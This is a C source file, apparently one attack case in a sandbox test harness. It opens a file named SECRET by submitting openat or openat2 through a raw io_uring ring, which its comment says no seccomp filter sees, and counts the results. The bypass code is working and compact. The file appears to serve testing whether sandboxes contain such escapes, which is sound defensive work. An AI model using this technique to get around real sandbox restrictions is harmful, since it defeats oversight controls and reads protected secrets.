// SPDX-License-Identifier: Apache-2.0
// attack_ring SECONDS ENOUGH openat|openat2: opens the secret through io_uring, which no seccomp filter sees, a few times.
#include "attack.h"
#include <linux/io_uring.h>
#include <linux/openat2.h>

enum { TIMES = 20 };

typedef struct {
  int fd;
  char *submissions, *completions; // the rings
  struct io_uring_sqe *entries;
  struct io_uring_params parameters;
} Ring;

static void *map_ring(int fd, size_t size, off_t offset) {
  return mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, offset);
}

static int make_ring(Ring *ring) {
  memset(ring, 0, sizeof *ring);
  ring->fd = syscall(SYS_io_uring_setup, 4, &ring->parameters);
  if (ring->fd < 0) return 0;
  struct io_uring_params *made = &ring->parameters;
  ring->submissions = map_ring(ring->fd, made->sq_off.array + made->sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
  ring->completions =
      map_ring(ring->fd, made->cq_off.cqes + made->cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
  ring->entries = map_ring(ring->fd, made->sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
  return ring->submissions != MAP_FAILED && ring->completions != MAP_FAILED && ring->entries != MAP_FAILED;
}

// Submits the first entry and returns its result.
static int submit(Ring *ring) {
  unsigned *tail = (unsigned *)(ring->submissions + ring->parameters.sq_off.tail);
  unsigned *mask = (unsigned *)(ring->submissions + ring->parameters.sq_off.ring_mask);
  unsigned *array = (unsigned *)(ring->submissions + ring->parameters.sq_off.array);
  array[*tail & *mask] = 0;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  unsigned *head = (unsigned *)(ring->completions + ring->parameters.cq_off.head);
  struct io_uring_cqe *results = (struct io_uring_cqe *)(ring->completions + ring->parameters.cq_off.cqes);
  return results[*head].res;
}

static Outcome open_through_ring(uint8_t operation) {
  static struct open_how how = {.flags = O_RDONLY};
  Ring ring;
  if (!make_ring(&ring)) return NOTHING;
  struct io_uring_sqe *entry = &ring.entries[0];
  memset(entry, 0, sizeof *entry);
  entry->opcode = operation;
  entry->fd = AT_FDCWD;
  entry->addr = (uintptr_t)SECRET;
  if (operation == IORING_OP_OPENAT2) {
    entry->len = sizeof how;
    entry->off = (uintptr_t)&how;
  }
  Outcome outcome = opened(submit(&ring));
  close(ring.fd);
  return outcome;
}

static int is_switched_off(void) {
  char text[8] = "0";
  int fd = open("/proc/sys/kernel/io_uring_disabled", O_RDONLY);
  if (fd < 0) return 0;
  ssize_t length = read(fd, text, sizeof text);
  close(fd);
  return length > 0 && text[0] == '2';
}

int main(int argc, char **argv) {
  begin(argc, argv);
  if (is_switched_off()) return unavailable("the kernel's io_uring is switched off");
  uint8_t operation = strcmp(word(argc, argv, 0), "openat2") == 0 ? IORING_OP_OPENAT2 : IORING_OP_OPENAT;
  for (int time = 0; time < TIMES && !is_over(); time++) count(open_through_ring(operation));
  return finish();
}
